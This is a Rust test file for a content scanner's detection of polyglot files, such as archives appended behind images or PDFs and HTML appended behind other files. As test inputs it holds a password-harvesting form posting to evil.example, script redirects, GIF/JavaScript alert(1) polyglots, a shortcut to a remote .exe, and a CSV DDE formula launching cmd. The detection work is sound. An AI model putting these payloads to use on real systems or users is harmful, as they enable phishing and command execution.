//! Two kinds in one file: both are opened, and it is said.

use std::io::{Cursor, Write as _};

use zip::write::{SimpleFileOptions, ZipWriter};

use crate::formats::archives::tests::{open_with, roomy, sample};

fn zip() -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("in.exe", SimpleFileOptions::default()).unwrap();
    writer.write_all(b"MZ in the zip").unwrap();
    writer.finish().unwrap().into_inner()
}

/// Kind, marks, kinds of the children.
fn check(bytes: &[u8]) -> (String, bool, Vec<String>) {
    let content = open_with(bytes, &[], roomy());
    let mut kinds: Vec<String> = content.items.iter().skip(1).map(|item| item.kind.clone()).collect();
    kinds.sort();
    let item = &content.items[0];
    (item.kind.clone(), item.marks.iter().any(|mark| mark == "polyglot"), kinds)
}

fn expected(kind: &str, is_polyglot: bool, kinds: &[&str]) -> (String, bool, Vec<String>) {
    (kind.to_owned(), is_polyglot, kinds.iter().map(|kind| (*kind).to_owned()).collect())
}

const GIF: &[u8] = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR";
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x02\x00\x00d\x00d\x00\x00\xff\xd9";

#[test]
fn archives_behind_something_else() {
    let behind = |front: &[u8], back: &[u8]| check(&[front, back].concat());
    assert_eq!(behind(GIF, &zip()), expected("gif", true, &["exe"]));
    assert_eq!(behind(JPEG, sample!("v50.rar")), expected("jpeg", true, &["exe", "text"]));
    assert_eq!(behind(PNG, sample!("v29.rar")), expected("png", true, &["exe", "text"]));
    assert_eq!(behind(PNG, sample!("solid.7z")), expected("png", true, &["empty", "exe", "text"]));
    assert_eq!(behind(JPEG, sample!("stored.cab")), expected("jpeg", true, &["exe", "text"]));
    assert_eq!(behind(b"<html><p>hello</p></html>", sample!("v50.rar")), expected("html", true, &["exe", "text"]));
    assert!(behind(b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n", &zip()).1);
    assert_eq!(behind(b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00", &zip()), expected("mp4", true, &["exe"]));
    // Archives that unpack themselves are programs as they should be.
    for archive in [&zip(), sample!("v50.rar"), sample!("solid.7z")] {
        let (kind, is_polyglot, kinds) = behind(b"MZ\x90\x00 stub \x00\x01\x02", archive);
        assert_eq!((kind.as_str(), is_polyglot, kinds.contains(&"exe".to_owned())), ("exe", false, true));
    }
}

/// A compound file with one stream.
fn compound() -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    file.create_stream("/notes").unwrap().write_all(&[b'x'; 5000]).unwrap();
    file.into_inner().into_inner()
}

#[test]
fn archives_behind_documents_are_opened_wherever_they_stand() {
    let pdf = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n".as_slice();
    let mut with_comment = zip();
    let at = with_comment.len() - 2;
    with_comment[at..].copy_from_slice(&5_u16.to_le_bytes());
    with_comment.extend_from_slice(b"%%EOF");
    for front in [pdf.to_vec(), compound()] {
        for archive in [&zip(), &with_comment, sample!("v50.rar"), sample!("solid.7z"), sample!("stored.cab")] {
            let (_, is_polyglot, kinds) = check(&[front.as_slice(), archive].concat());
            assert!(is_polyglot && kinds.contains(&"exe".to_owned()), "{kinds:?}");
        }
        // Zeros behind it hide nothing.
        let (_, _, kinds) = check(&[front.as_slice(), &zip(), &[0; 70_000]].concat());
        assert!(kinds.contains(&"exe".to_owned()), "{kinds:?}");
    }
}

#[test]
fn archives_behind_archives() {
    let both = [zip().as_slice(), sample!("v50.rar")].concat();
    assert_eq!(check(&both), expected("zip", true, &["exe", "exe", "text"]));
    let both = [sample!("v50.rar"), zip().as_slice()].concat();
    // What stands behind the end is besides a file of its own.
    assert_eq!(check(&both), expected("rar", true, &["exe", "exe", "exe", "text", "zip"]));
    let both = [sample!("files.a"), zip().as_slice()].concat();
    assert!(check(&both).1);
}

#[test]
fn pages_and_scripts_behind_pictures() {
    for front in [GIF, PNG, JPEG] {
        let content = open_with(
            &[front, b"<html><script>location='http://in.example'</script>".as_slice()].concat(),
            &[],
            roomy(),
        );
        let marks = &content.items[0].marks;
        assert!(marks.contains(&"polyglot".to_owned()) && marks.contains(&"script".to_owned()), "{marks:?}");
    }
    assert!(check(b"GIF89a/*\x00\x00\x00*/=1;alert(1)").1);
    assert!(check(b"GIF89a=1;alert(1)//\x00\x01").1);
}

/// A member of a tar.
fn member(name: &str, file: &[u8]) -> Vec<u8> {
    let mut tar = vec![0_u8; 512];
    tar[..name.len()].copy_from_slice(name.as_bytes());
    tar[124..135].copy_from_slice(format!("{:011o}", file.len()).as_bytes());
    tar[156] = b'0';
    tar[257..265].copy_from_slice(b"ustar\x0000");
    tar[148..156].fill(b' ');
    let sum: u32 = tar.iter().map(|byte| u32::from(*byte)).sum();
    tar[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    tar.extend_from_slice(file);
    tar.resize(tar.len().next_multiple_of(512), 0);
    tar
}

#[test]
fn what_archives_hold_by_nature_is_no_trick() {
    let zip = zip();
    let mut tar = member("in.zip", &zip);
    tar.resize(tar.len() + 1024, 0);
    assert_eq!(check(&tar), expected("tar", false, &["exe", "zip"]));
    // Behind the blocks that end it, it is one.
    tar.extend_from_slice(&zip);
    let (_, is_polyglot, kinds) = check(&tar);
    assert!(is_polyglot && kinds.iter().filter(|kind| *kind == "exe").count() >= 2, "{kinds:?}");
    assert!(!check(GIF).1);
}

#[test]
fn one_behind_those_that_an_archive_holds_by_nature() {
    // A document with a file in it, as it is.
    let holding = |file: &[u8]| {
        let head = format!(
            "%PDF-1.4\n1 0 obj\n<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a.rar) 2 0 R]>>>>>>\nendobj\n\
             2 0 obj\n<</Type/Filespec/F(a.rar)/EF<</F 3 0 R>>>>\nendobj\n\
             3 0 obj\n<</Type/EmbeddedFile/Length {}>>\nstream\n",
            file.len()
        );
        let tail = b"\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n".as_slice();
        [head.as_bytes(), file, tail].concat()
    };
    for file in [sample!("v50.rar"), sample!("solid.7z"), sample!("stored.cab")] {
        let pdf = holding(file);
        let (kind, is_polyglot, kinds) = check(&pdf);
        assert!(kind == "pdf" && !is_polyglot && kinds.contains(&"exe".to_owned()), "{kinds:?}");
        let (_, is_polyglot, more) = check(&[pdf.as_slice(), file].concat());
        assert!(is_polyglot && more.len() > kinds.len(), "{more:?}");
    }
}

#[test]
fn a_document_that_an_archive_holds_unpacked_is_no_trick() {
    let stored = |name: &str, bytes: &[u8]| {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        writer.start_file(name, options).unwrap();
        writer.write_all(bytes).unwrap();
        writer.finish().unwrap().into_inner()
    };
    let document = sample!("../pdf/libreoffice.pdf");
    let inner = stored("letter.pdf", document);
    assert!(!check(&inner).1);
    // In an archive within the archive too.
    assert!(!check(&stored("inner.zip", &inner)).1);
    // One that is no member is a trick still.
    assert!(check(&stored("a.bin", &[b"%PDF-1.7 x", document].concat())).1);
}

/// Opens a file under a name.
fn named(name: &str, bytes: &[u8]) -> scan::content::Content {
    let part = crate::request::Part {
        place: "1".to_owned(),
        names: vec![name.to_owned()],
        declared: "application/octet-stream".to_owned(),
        bytes: bytes::Bytes::copy_from_slice(bytes),
        ..Default::default()
    };
    let request = crate::request::Request { parts: vec![part], ..Default::default() };
    crate::unpack::unpack(&request, &mut crate::budget::Budget::new(roomy()))
}

const BINARIES: [&[u8]; 12] = [
    sample!("../pdf/libreoffice.pdf"),
    sample!("../office/lo.docx"),
    sample!("../office/lo.odt"),
    sample!("../office/lo.doc"),
    sample!("../office/lo.xls"),
    sample!("../office/lo.rtf"),
    sample!("../small/clean.one"),
    sample!("../small/winmail.dat"),
    sample!("../small/opaque.p7m"),
    sample!("solid.7z"),
    sample!("v50-stored.rar"),
    sample!("hello.txt.gz"),
];

#[test]
fn a_page_by_its_name_behind_any_bytes() {
    let page = b"--><form action='http://evil.example/hp'><input type=password></form><script>location='http://evil.example/hp'</script>";
    for front in BINARIES {
        for (name, around) in
            [("a.html", b"".as_slice()), ("b.HTM ", b"<!--"), ("c.hta", b"<html><!--"), ("d.svg", b"")]
        {
            let bytes = [around, front, page].concat();
            let archive = {
                let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
                writer.start_file(name, SimpleFileOptions::default()).unwrap();
                writer.write_all(&bytes).unwrap();
                writer.finish().unwrap().into_inner()
            };
            for (content, level) in [(named(name, &bytes), "alone"), (named("a.zip", &archive), "packed")] {
                let item = content.items.iter().find(|item| item.names.iter().any(|own| own == name)).unwrap();
                for mark in ["script", "password_field"] {
                    assert!(item.marks.iter().any(|own| own == mark), "{name} {level} {} {:?}", item.kind, item.marks);
                }
                let links = item.links.iter().any(|link| link.target.starts_with("http://evil.example/"));
                assert!(links, "{name} {level} {} {:?}", item.kind, item.links);
                let is_told = item.marks.iter().any(|own| own == "polyglot" || own == "type_conflict");
                let is_page = matches!(item.kind.as_str(), "html" | "hta" | "xhtml" | "svg" | "unknown" | "text");
                assert!(is_told || is_page, "{name} {level} {} {:?}", item.kind, item.marks);
            }
        }
    }
}

#[test]
fn settings_and_tables_by_their_name_behind_any_bytes() {
    for front in [sample!("../pdf/libreoffice.pdf"), sample!("../office/lo.doc")] {
        let shortcut =
            named("a.url", &[front, b"\r\n[InternetShortcut]\r\nURL=file://evil.example/s/a.exe\r\n"].concat());
        assert!(
            shortcut.items[0].links.iter().any(|link| link.target.contains("evil.example")),
            "{:?}",
            shortcut.items[0]
        );
        let table = named("a.csv", &[front, b"\r\n=cmd|'/c calc'!A1\r\n"].concat());
        assert!(table.items[0].marks.contains(&"dde".to_owned()), "{:?}", table.items[0].marks);
    }
}

#[test]
fn a_page_in_a_document_that_is_called_one_is_no_page() {
    // A manual about pages keeps the words of one.
    let pdf = b"%PDF-1.4\n1 0 obj\n<</Length 40>>\nstream\nBT (<script>alert(1)</script> is a tag) Tj ET\nendstream\nendobj\n\
        trailer\n<</Root 1 0 R>>\n%%EOF\n";
    for name in ["manual.pdf", "page.html.pdf", "manual"] {
        let content = named(name, pdf);
        let marks = &content.items[0].marks;
        assert!(
            !marks.iter().any(|mark| ["script", "polyglot", "type_conflict"].contains(&mark.as_str())),
            "{name} {marks:?}"
        );
    }
}
